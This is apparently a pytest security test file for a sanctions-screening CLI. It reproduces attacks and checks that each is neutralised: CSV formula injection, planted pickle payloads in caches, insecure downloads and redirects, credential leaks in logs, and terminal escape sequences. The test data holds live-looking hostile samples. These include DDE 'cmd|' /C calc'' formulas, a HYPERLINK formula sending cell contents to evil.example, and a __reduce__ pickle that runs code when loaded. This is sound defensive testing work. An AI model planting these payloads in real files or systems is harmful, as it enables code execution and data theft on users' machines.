"""Issue 9, medium and low findings outside the API: each attack reproduced, each now safe.

CSV formula injection, downloads (plain http, redirects, deadline, credentials),
executable caches, secrets in messages, file modes, terminal escapes, CLI tracebacks.
"""

from __future__ import annotations

import csv
import http.server
import io
import json
import logging
import os
import pickle
import re
import sqlite3
import stat
import threading
import time
import tomllib
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner
from sqlalchemy import make_url

from sanctions import config, download
from sanctions.cache import MAGIC, cache_key_path, read_cache, write_cache
from sanctions.cli import main
from sanctions.cli.terminal import SafeConsole, safe_text
from sanctions.coordination.reports import render_csv
from sanctions.csvsafe import csv_writer, safe_cell
from sanctions.download import fetch_dataset
from sanctions.errors import DownloadError, StoreError
from sanctions.redact import redact_text, redact_url, redact_urls
from sanctions.screening import parse_query
from sanctions.sources.registry import ResolvedFile, get_source
from sanctions.store import Store
from sanctions.update import update_datasets
from sanctions.watch.prefilter import RecordKeys, load_keys
from tests.store.test_store import postgres_url

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}

LISTED = [
    {"id": "os-putin", "schema": "Person", "properties": {"name": ["Vladimir Putin"]}},
    *(
        {"id": f"os-hostile-{i}", "schema": "Person", "properties": {"name": [value]}}
        for i, value in enumerate(HOSTILE.values())
    ),
]


def _store_of(folder: Path, entities: list[dict[str, object]]) -> str:
    """A SQLite store with these FtM entities loaded through the CLI; returns its path."""
    source = folder / "list.ftm.json"
    source.write_text("".join(json.dumps(e) + "\n" for e in entities))
    path = str(folder / "s.db")
    result = CliRunner().invoke(main, ["--db", path, "load", str(source)])
    assert result.exit_code == 0, result.output
    return path


@pytest.fixture()
def db(tmp_path: Path) -> str:
    return _store_of(tmp_path, LISTED)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    bad = [c for c in cells if c and c[0] in "=+-@\t\r"]
    assert not bad, f"cells a spreadsheet would evaluate: {bad}"


# -- CSV formula injection ------------------------------------------------------------


@pytest.mark.parametrize("prefix", list(HOSTILE))
def test_safe_cell_prefixes_every_formula_start_and_keeps_the_text(prefix: str) -> None:
    value = HOSTILE[prefix]
    assert safe_cell(value) == "'" + value
    assert safe_cell("Vladimir Putin") == "Vladimir Putin"
    assert safe_cell(-0.5) == -0.5 and safe_cell(3) == 3 and safe_cell(None) is None


def test_csv_writer_prefixes_cells_but_not_our_header() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writeheader(["name", "score"])
    writer.writerow(["=1+1", -0.25])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "score"], ["'=1+1", "-0.25"]]


def test_export_csv_of_hostile_list_names_is_formula_safe(db: str, tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    result = CliRunner().invoke(main, ["--db", db, "export", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    cells = _cells(out.read_text(encoding="utf-8"))
    _assert_no_formula(cells)
    for value in HOSTILE.values():
        assert "'" + value.strip() in cells  # the text is kept (as loaded), only made inert


def test_screen_out_csv_of_hostile_customer_names_is_formula_safe(db: str, tmp_path: Path) -> None:
    customers = tmp_path / "customers.csv"
    with open(customers, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "name"])
        writer.writerow(["=cmd|' /C calc'!A0", "Vladimir Putin"])
        # (a CR inside a quoted value reads as a multi-line value, refused as a row error)
        for i, value in enumerate(v for v in HOSTILE.values() if "\r" not in v):
            writer.writerow([f"c{i}", value])
    out = tmp_path / "results.csv"
    result = CliRunner().invoke(
        main,
        ["--db", db, "screen", "--file", str(customers), "--out", str(out), "--id-column", "id"],
    )
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    _assert_no_formula(_cells(text))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert "'=cmd|' /C calc'!A0" in {r["query_id"] for r in rows}
    assert any(r["match_caption"].startswith("'=HYPERLINK") for r in rows)  # listed names too


def test_audit_export_csv_is_formula_safe(db: str, tmp_path: Path) -> None:
    runner = CliRunner()
    result = runner.invoke(
        main,
        ["--db", db, "watch", "add", "=1+2", "--name", "@SUM(A1)", "--actor", "-evil"],
    )
    assert result.exit_code == 0, result.output
    out = tmp_path / "audit.csv"
    result = runner.invoke(main, ["--db", db, "audit", "export", "--format", "csv", "-o", str(out)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    _assert_no_formula([c for r in rows for c in r.values()])
    assert "'-evil" in {r["actor"] for r in rows}


def test_coverage_report_csv_is_formula_safe() -> None:
    text = render_csv([{"programme": "=1+1", "count": -3}, {"programme": "ok", "count": 2}])
    assert list(csv.reader(io.StringIO(text))) == [
        ["programme", "count"],
        ["'=1+1", "-3"],
        ["ok", "2"],
    ]


# -- caches are not a way to run code -------------------------------------------------


class _Payload:
    """A pickle that, when loaded, creates a file: proof that loading ran code."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (str(self.marker), "w"))


def _plant(path: Path, marker: Path) -> None:
    path.write_bytes(pickle.dumps(_Payload(marker)))


def test_planted_pickle_in_the_index_cache_is_not_run_and_the_index_rebuilt(
    db: str, tmp_path: Path, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = tmp_path / "index-cache"
    monkeypatch.setenv("SANCTIONS_INDEX_CACHE", str(cache))
    args = ["--db", db, "screen", "Vladimir Putin", "--json"]
    first = CliRunner().invoke(main, args)
    assert first.exit_code == 0, first.output
    assert any("-index-" in p.name for p in cache.glob("*.pickle")), "no index cache written"
    marker = tmp_path / "pwned"
    for path in cache.glob("*.pickle"):
        _plant(path, marker)
    with caplog.at_level(logging.WARNING, logger="sanctions.cache"):
        again = CliRunner().invoke(main, args)
    assert again.exit_code == 0, again.output
    assert not marker.exists()
    assert json.loads(again.stdout)["results"][0]["id"] == "os-putin"
    assert "no valid signature" in caplog.text
    assert all(p.read_bytes().startswith(MAGIC) for p in cache.glob("*.pickle"))  # rebuilt


def test_planted_pickle_in_the_watch_prefilter_cache_is_not_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SANCTIONS_INDEX_CACHE", str(tmp_path / "index-cache"))
    query = parse_query({"id": "c1", "properties": {"name": ["Vladimir Putin"]}})
    keys = RecordKeys([("c1", "h", query)])
    keys.save()
    path = RecordKeys.path_for(keys.digest)
    assert load_keys(keys.digest) is not None
    marker = tmp_path / "pwned"
    _plant(path, marker)
    assert load_keys(keys.digest) is None
    assert not marker.exists()


def test_cache_key_is_private_outside_the_cache_folder_and_checked(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    cache.mkdir()
    target = cache / "x.pickle"
    assert write_cache(target, {"a": 1})
    key = cache_key_path()
    assert key.parent != cache and stat.S_IMODE(key.stat().st_mode) == 0o600
    assert read_cache(target) == {"a": 1}
    data = bytearray(target.read_bytes())
    data[-3] ^= 1  # one bit of the payload
    target.write_bytes(bytes(data))
    assert read_cache(target) is None


def test_cache_signed_with_another_key_or_with_an_open_key_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "cache" / "x.pickle"
    target.parent.mkdir()
    monkeypatch.setenv("SANCTIONS_CACHE_KEY_FILE", str(tmp_path / "one.key"))
    assert write_cache(target, [1, 2])
    monkeypatch.setenv("SANCTIONS_CACHE_KEY_FILE", str(tmp_path / "other.key"))
    assert read_cache(target) is None  # e.g. a cache file copied from another machine
    os.chmod(tmp_path / "other.key", 0o644)
    assert not write_cache(target, [1, 2]) and read_cache(target) is None
    monkeypatch.setenv("SANCTIONS_CACHE_KEY_FILE", str(target.parent / "in-cache.key"))
    assert not write_cache(target, [1, 2])  # a key the cache writer could replace


# -- downloads: https only, same-host redirects, a deadline, no credentials kept ---------

UN_SMALL = Path(__file__).resolve().parent.parent / "fixtures" / "un" / "consolidated_small.xml"


class _Site(http.server.ThreadingHTTPServer):
    """A scriptable server on the loopback: path -> (status, headers, body, delay per byte)."""

    daemon_threads = True

    def __init__(self, host: str = "127.0.0.1") -> None:
        super().__init__((host, 0), _SiteHandler)
        self.pages: dict[str, tuple[int, dict[str, str], bytes, float]] = {}
        self.seen: list[tuple[str, dict[str, str]]] = []
        self.stop = threading.Event()

    def url(self, path: str, host: str = "127.0.0.1", userinfo: str = "") -> str:
        return f"http://{userinfo}{host}:{self.server_address[1]}{path}"


class _SiteHandler(http.server.BaseHTTPRequestHandler):
    server: _Site

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass

    def do_GET(self) -> None:
        path = self.path.split("?", 1)[0]
        self.server.seen.append((self.path, dict(self.headers.items())))
        status, headers, body, trickle = self.server.pages.get(path, (404, {}, b"", 0.0))
        self.send_response(status)
        for name, value in {"Content-Length": str(len(body)), **headers}.items():
            self.send_header(name, value)
        self.end_headers()
        try:
            if not trickle:
                self.wfile.write(body)
                return
            for i in range(len(body)):  # one byte at a time: every read is "on time"
                if self.server.stop.wait(trickle):
                    return
                self.wfile.write(body[i : i + 1])
                self.wfile.flush()
        except (BrokenPipeError, ConnectionResetError):
            pass


@pytest.fixture()
def site() -> Iterator[_Site]:
    srv = _Site()
    thread = threading.Thread(target=srv.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield srv
    srv.stop.set()
    srv.shutdown()
    srv.server_close()
    thread.join(5)


@pytest.fixture()
def no_env(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    for name in list(os.environ):
        if name.startswith("SANCTIONS_URL_") or name == "SANCTIONS_MIRROR":
            monkeypatch.delenv(name)
    monkeypatch.delenv("SANCTIONS_REDIRECT_HOSTS", raising=False)
    monkeypatch.setattr(download, "_sleep", lambda _s: None)
    return monkeypatch


def _mock(routes: dict[str, tuple[int, dict[str, str], bytes]]) -> tuple[httpx.Client, list[str]]:
    """A client whose transport answers from ``routes`` (hosts that are not the loopback)."""
    seen: list[str] = []

    def answer(request: httpx.Request) -> httpx.Response:
        seen.append(str(request.url))
        status, headers, body = routes.get(str(request.url), (404, {}, b""))
        headers = {"Content-Length": str(len(body)), **headers}
        return httpx.Response(status, headers=headers, stream=httpx.ByteStream(body))

    return httpx.Client(transport=httpx.MockTransport(answer)), seen


def test_plain_http_is_refused_for_a_remote_mirror_unless_explicitly_allowed(
    tmp_path: Path, no_env: pytest.MonkeyPatch
) -> None:
    url = "http://mirror.example/lists/un_sc_sanctions/consolidated.xml"
    client, seen = _mock({url: (200, {}, UN_SMALL.read_bytes())})
    with pytest.raises(DownloadError, match="plain http refused"):
        fetch_dataset(
            "un_sc_sanctions", tmp_path, mirror="http://mirror.example/lists", client=client
        )
    assert seen == []  # refused before any byte was sent
    result = fetch_dataset(
        "un_sc_sanctions",
        tmp_path,
        mirror="http://mirror.example/lists",
        client=client,
        allow_insecure_mirror=True,
    )
    assert result.status == "downloaded" and seen == [url]


def test_official_urls_are_never_fetched_over_plain_http(
    tmp_path: Path, no_env: pytest.MonkeyPatch
) -> None:
    source = get_source("un_sc_sanctions")
    insecure = source.files[0].url.replace("https://", "http://")
    item = ResolvedFile(source.files[0].name, insecure, "official")
    opts = download._Options("un_sc_sanctions", 5, 0, 0, 0, 1 << 20, allow_insecure_mirror=True)
    with pytest.raises(DownloadError, match="official URL is always fetched over https"):
        download._check_transport(item, opts)


def test_redirect_to_another_host_is_refused_and_the_previous_file_kept(
    site: _Site, tmp_path: Path, no_env: pytest.MonkeyPatch
) -> None:
    body = UN_SMALL.read_bytes()
    site.pages["/m/un_sc_sanctions/consolidated.xml"] = (200, {}, body, 0.0)
    first = fetch_dataset("un_sc_sanctions", tmp_path, mirror=site.url("/m"), conditional=False)
    assert first.path.read_bytes() == body
    evil = site.url("/evil.xml", host="localhost")  # another host name
    site.pages["/m/un_sc_sanctions/consolidated.xml"] = (302, {"Location": evil}, b"", 0.0)
    site.pages["/evil.xml"] = (200, {}, b"<CONSOLIDATED_LIST/>", 0.0)
    with pytest.raises(DownloadError, match="redirect to another host refused"):
        fetch_dataset("un_sc_sanctions", tmp_path, mirror=site.url("/m"), conditional=False)
    assert "/evil.xml" not in [p for p, _ in site.seen]
    assert first.path.read_bytes() == body


def test_redirect_to_a_host_named_in_sanctions_redirect_hosts_is_followed(
    site: _Site, tmp_path: Path, no_env: pytest.MonkeyPatch
) -> None:
    cdn = site.url("/cdn/un.xml", host="localhost")
    site.pages["/m/un_sc_sanctions/consolidated.xml"] = (302, {"Location": cdn}, b"", 0.0)
    site.pages["/cdn/un.xml"] = (200, {}, UN_SMALL.read_bytes(), 0.0)
    with pytest.raises(DownloadError, match="add it to SANCTIONS_REDIRECT_HOSTS"):
        fetch_dataset("un_sc_sanctions", tmp_path, mirror=site.url("/m"))
    no_env.setenv("SANCTIONS_REDIRECT_HOSTS", "cdn.example, LOCALHOST")
    result = fetch_dataset("un_sc_sanctions", tmp_path, mirror=site.url("/m"))
    assert result.path.read_bytes() == UN_SMALL.read_bytes()


def test_redirect_on_the_same_host_is_followed(
    site: _Site, tmp_path: Path, no_env: pytest.MonkeyPatch
) -> None:
    site.pages["/m/un_sc_sanctions/consolidated.xml"] = (301, {"Location": "/v2/un.xml"}, b"", 0.0)
    site.pages["/v2/un.xml"] = (200, {}, UN_SMALL.read_bytes(), 0.0)
    result = fetch_dataset("un_sc_sanctions", tmp_path, mirror=site.url("/m"))
    assert result.path.read_bytes() == UN_SMALL.read_bytes()
    site.pages["/v2/un.xml"] = (302, {"Location": "/m/un_sc_sanctions/consolidated.xml"}, b"", 0.0)
    with pytest.raises(DownloadError, match="more than 5 redirects"):
        fetch_dataset("un_sc_sanctions", tmp_path, mirror=site.url("/m"), conditional=False)


def test_redirect_from_https_to_http_is_refused_unless_an_insecure_mirror_is_allowed(
    tmp_path: Path, no_env: pytest.MonkeyPatch
) -> None:
    start = "https://mirror.example/m/un_sc_sanctions/consolidated.xml"
    plain = "http://mirror.example/un.xml"
    routes = {
        start: (302, {"Location": plain}, b""),
        plain: (200, {}, UN_SMALL.read_bytes()),
    }
    client, seen = _mock(routes)
    mirror = "https://mirror.example/m"
    with pytest.raises(DownloadError, match="redirect from https to plain http refused"):
        fetch_dataset("un_sc_sanctions", tmp_path, mirror=mirror, client=client)
    assert seen == [start]
    result = fetch_dataset(
        "un_sc_sanctions", tmp_path, mirror=mirror, client=client, allow_insecure_mirror=True
    )
    assert result.status == "downloaded" and seen[-1] == plain


def test_a_trickling_server_hits_the_overall_deadline(
    site: _Site, tmp_path: Path, no_env: pytest.MonkeyPatch
) -> None:
    # every byte arrives well within the read timeout: only an overall deadline stops it
    site.pages["/m/un_sc_sanctions/consolidated.xml"] = (200, {}, UN_SMALL.read_bytes(), 0.02)
    started = time.monotonic()
    with pytest.raises(DownloadError, match="not complete within the deadline of 0.5 s"):
        fetch_dataset(
            "un_sc_sanctions", tmp_path, mirror=site.url("/m"), timeout=5, retries=3, deadline=0.5
        )
    assert time.monotonic() - started < 3
    assert not (tmp_path / "consolidated.xml").exists()
    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".part"] == []


def test_mirror_credentials_are_used_but_never_kept_or_shown(
    site: _Site, tmp_path: Path, no_env: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    site.pages["/un.xml"] = (200, {}, UN_SMALL.read_bytes(), 0.0)
    url = site.url("/un.xml", userinfo="reader:s3cr3t-pw@") + "?token=t0ken-xyz&lang=en"
    no_env.setenv("SANCTIONS_URL_UN_SC_SANCTIONS", url)
    store = Store.open(tmp_path / "s.db")
    with caplog.at_level(logging.DEBUG):
        (report,) = update_datasets(store, ["un_sc_sanctions"], data_dir=tmp_path / "dl")
    assert report.status == "loaded", report.error
    assert site.seen[-1][1]["Authorization"].startswith("Basic ")  # the credentials were used
    assert report.url is not None and "reader:***@" in report.url and "token=***" in report.url
    site.pages["/un.xml"] = (404, {}, b"", 0.0)
    with caplog.at_level(logging.DEBUG):
        (failed,) = update_datasets(
            store, ["un_sc_sanctions"], data_dir=tmp_path / "dl", conditional=False
        )
    assert failed.failed and "HTTP 404" in (failed.error or "")
    state = (tmp_path / "dl" / "un_sc_sanctions" / "state.json").read_text()
    with sqlite3.connect(tmp_path / "s.db") as conn:
        dump = "\n".join(conn.iterdump())
    assert "token=***" in dump  # the source URL is recorded, redacted
    for secret in ("s3cr3t-pw", "t0ken-xyz"):
        for where in (state, dump, caplog.text, json.dumps([report.to_dict(), failed.to_dict()])):
            assert secret not in where


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://reader:pw%40x@mirror.example/l", "https://reader:***@mirror.example/l"),
        ("https://ghp_T0KEN@mirror.example/l", "https://***@mirror.example/l"),
        (
            "https://m.example/f.xml?X-Amz-Signature=abc123&lang=en&api_key=k9",
            "https://m.example/f.xml?X-Amz-Signature=***&lang=en&api_key=***",
        ),
        ("postgresql+psycopg://app:s3@db:5432/s", "postgresql+psycopg://app:***@db:5432/s"),
        ("https://mirror.example/lists", "https://mirror.example/lists"),
        ("/srv/mirror/un.xml", "/srv/mirror/un.xml"),
    ],
)
def test_redact_url_masks_passwords_user_tokens_and_secret_parameters(url: str, shown: str) -> None:
    assert redact_url(url) == shown
    message = f"GET {url} failed"
    assert redact_text(message, url) == f"GET {shown} failed"
    assert redact_urls(message) == f"GET {shown} failed"


# -- secrets in store errors, file modes ----------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "postgresql://app:s3cr3t-pw@127.0.0.1:1/sanctions",  # nothing listens there
        "postgresql://app:s3cr3t-pw@127.0.0.1:notaport/sanctions",  # a ValueError inside
    ],
)
def test_store_errors_never_show_the_database_password(url: str) -> None:
    with pytest.raises(StoreError) as caught:
        Store.open(url)
    message = str(caught.value)
    assert "s3cr3t-pw" not in message and "app:***@127.0.0.1" in message
    assert "\n" not in message
    result = CliRunner().invoke(main, ["--db", url, "lists"])
    assert result.exit_code == 2 and "s3cr3t-pw" not in result.output
    assert "Traceback" not in result.output and len(result.output.strip().splitlines()) == 1


@pytest.mark.postgres
def test_postgresql_error_never_shows_the_password() -> None:
    good = make_url(postgres_url())
    bad = good.set(password="s3cr3t-pw", database="no_such_database_here")
    with pytest.raises(StoreError, match="no_such_database_here") as caught:
        Store.open(bad.render_as_string(hide_password=False))
    assert "s3cr3t-pw" not in str(caught.value) and ":***@" in str(caught.value)


def test_new_sqlite_store_and_its_wal_are_private_and_the_data_dir_is_0700(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    old = os.umask(0o022)  # a usual umask: files 0644 unless we say otherwise
    try:
        data = tmp_path / "new-data-dir"
        monkeypatch.setenv("SANCTIONS_DATA_DIR", str(data))
        assert config.data_dir() == data
        store = Store.open(None)  # the default store in the data dir
        store.load(Path(__file__).parent.parent / "fixtures" / "ftm" / "v1.jsonl", "fixture")
        modes = {
            p.name: stat.S_IMODE(p.stat().st_mode)
            for p in data.iterdir()
            if p.name.startswith("sanctions.db")
        }
        store.close()
    finally:
        os.umask(old)
    assert stat.S_IMODE(data.stat().st_mode) == 0o700
    assert set(modes) >= {"sanctions.db", "sanctions.db-wal"}
    assert modes == dict.fromkeys(modes, 0o600)


# -- terminal escape sequences in names never reach the terminal raw ----------------

ESCAPES = {
    "clear screen": "\x1b[2J\x1b[H",
    "window title": "\x1b]0;owned\x07",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "carriage return": "\rNO MATCH ",
    "8-bit CSI": "\x9b31m",
    "bidi override": "\u202enitup",
}
TERMINAL_LISTED = [
    {
        "id": f"os-esc-{i}",
        "schema": "Person",
        "properties": {"name": [f"Ivan{seq}Petrov"], "alias": [f"Petrov{seq}"]},
    }
    for i, seq in enumerate(ESCAPES.values())
] + [
    {
        "id": "os-markup",
        "schema": "Person",
        "properties": {"name": ["[link=http://evil.example]Ivan[/link] [black on black]Petrov[/]"]},
    }
]


def _raw_controls(text: str) -> list[str]:
    return sorted({c for c in text if c not in "\n\t" and (ord(c) < 32 or 0x7F <= ord(c) <= 0x9F)})


@pytest.fixture()
def escapes_db(tmp_path: Path) -> str:
    return _store_of(tmp_path, TERMINAL_LISTED)


@pytest.mark.parametrize("kind", list(ESCAPES))
def test_safe_text_shows_every_control_as_text(kind: str) -> None:
    shown = safe_text(f"Ivan{ESCAPES[kind]}Petrov")
    assert _raw_controls(shown) == [] and "\u202e" not in shown
    assert shown.startswith("Ivan") and shown.endswith("Petrov") and "\\u" in shown


@pytest.mark.parametrize(
    "args",
    [
        ["screen", "Ivan Petrov", "--limit", "10"],
        ["show", "os-esc-0"],
        ["show", "os-markup"],
        ["screen", "Ivan\x1b[2J Petrov\u202e", "--limit", "3"],  # the query itself
        ["screen", "Ivan Petrov", "--limit", "10", "--json"],
    ],
)
def test_cli_output_never_carries_raw_terminal_controls(escapes_db: str, args: list[str]) -> None:
    result = CliRunner(env={"COLUMNS": "200"}).invoke(main, ["--db", escapes_db, *args])
    assert result.exit_code == 0, result.output
    assert _raw_controls(result.output) == []
    assert "\u202e" not in result.output
    assert "\\u001b" in result.output or "\\u202e" in result.output or "[link=" in result.output


def test_json_output_stays_exact_while_terminal_safe(escapes_db: str) -> None:
    result = CliRunner().invoke(main, ["--db", escapes_db, "show", "os-esc-4", "--json"])
    assert result.exit_code == 0, result.output
    assert "\x9b" not in result.output
    assert "Ivan\x9b31mPetrov" in json.dumps(json.loads(result.output), ensure_ascii=False)


def test_rich_markup_in_a_name_is_shown_not_obeyed() -> None:
    out = io.StringIO()
    console = SafeConsole(file=out, force_terminal=True, width=200)
    console.print(
        "[bold red]MATCH[/] [link=http://evil.example]Ivan[/link] [black on black]Petrov[/]",
        highlight=False,
    )
    text = out.getvalue()
    assert "\x1b]8;" not in text  # no hyperlink written
    assert "[link=http://evil.example]Ivan[/link] [black on black]Petrov[/]" in text
    assert "\x1b[1;31mMATCH" in text  # our own styles still work


# -- CLI errors are one line with exit 2, not tracebacks ----------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["export", "--format", "csv", "-o", "{missing}/out.csv"],
        ["audit", "export", "-o", "{missing}/audit.jsonl"],
        ["screen", "--file", "{customers}", "--out", "{missing}/results.csv"],
        ["--db", "{afile}/store.db", "lists"],
        ["--db", "{tmp}", "lists"],
        ["--db", "{afile}", "lists"],  # not a database
        ["--db", "postgresql://u@127.0.0.1:notaport/db", "lists"],
    ],
)
def test_cli_conditions_are_one_clear_line_and_exit_2(
    db: str, tmp_path: Path, args: list[str]
) -> None:
    customers = tmp_path / "customers.csv"
    customers.write_text("id,name\n1,Vladimir Putin\n")
    afile = tmp_path / "afile.txt"
    afile.write_text("not a database\n")
    values = {"missing": tmp_path / "no" / "such", "customers": customers, "afile": afile}
    values["tmp"] = tmp_path
    args = [a.format(**values) for a in args]
    if args[0] != "--db":
        args = ["--db", db, *args]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 2, (result.output, result.exception)
    lines = [line for line in result.output.splitlines() if not line.startswith("WARNING")]
    assert len(lines) == 1 and lines[0].startswith("error: "), result.output
    assert "Traceback" not in result.output


def test_programming_errors_keep_their_traceback(db: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_args: object, **_kwargs: object) -> None:
        raise TypeError("a bug")

    monkeypatch.setattr(Store, "datasets", broken)
    result = CliRunner().invoke(main, ["--db", db, "lists"])
    assert result.exit_code == 1 and isinstance(result.exception, TypeError)


# -- dependencies: exact pins for CI and releases -----------------------------------

ROOT = Path(__file__).resolve().parent.parent.parent


def _canonical(name: str) -> str:
    return re.sub(r"[-_.]+", "-", name).lower()


def test_constraints_pin_every_declared_dependency_exactly() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    declared = list(project["dependencies"])
    for extra in project["optional-dependencies"].values():
        declared += extra
    names = {_canonical(re.match(r"[A-Za-z0-9._-]+", r).group()) for r in declared}  # type: ignore[union-attr]
    names |= {"rigour", "python-stdnum", "pycountry", "fastapi-offline"}  # from other branches
    pins = {}
    for line in (ROOT / "constraints.txt").read_text().splitlines():
        if line.strip() and not line.startswith("#"):
            name, sep, version = line.partition("==")
            assert sep and re.fullmatch(r"[0-9][0-9A-Za-z.+!-]*", version), line
            pins[_canonical(name)] = version
    assert "sanctions" not in pins
    missing = sorted(names - set(pins))
    assert not missing, (
        f"not pinned in constraints.txt (run scripts/freeze-constraints.sh): {missing}"
    )
    assert "-c constraints.txt" in (ROOT / ".ci" / "run").read_text()
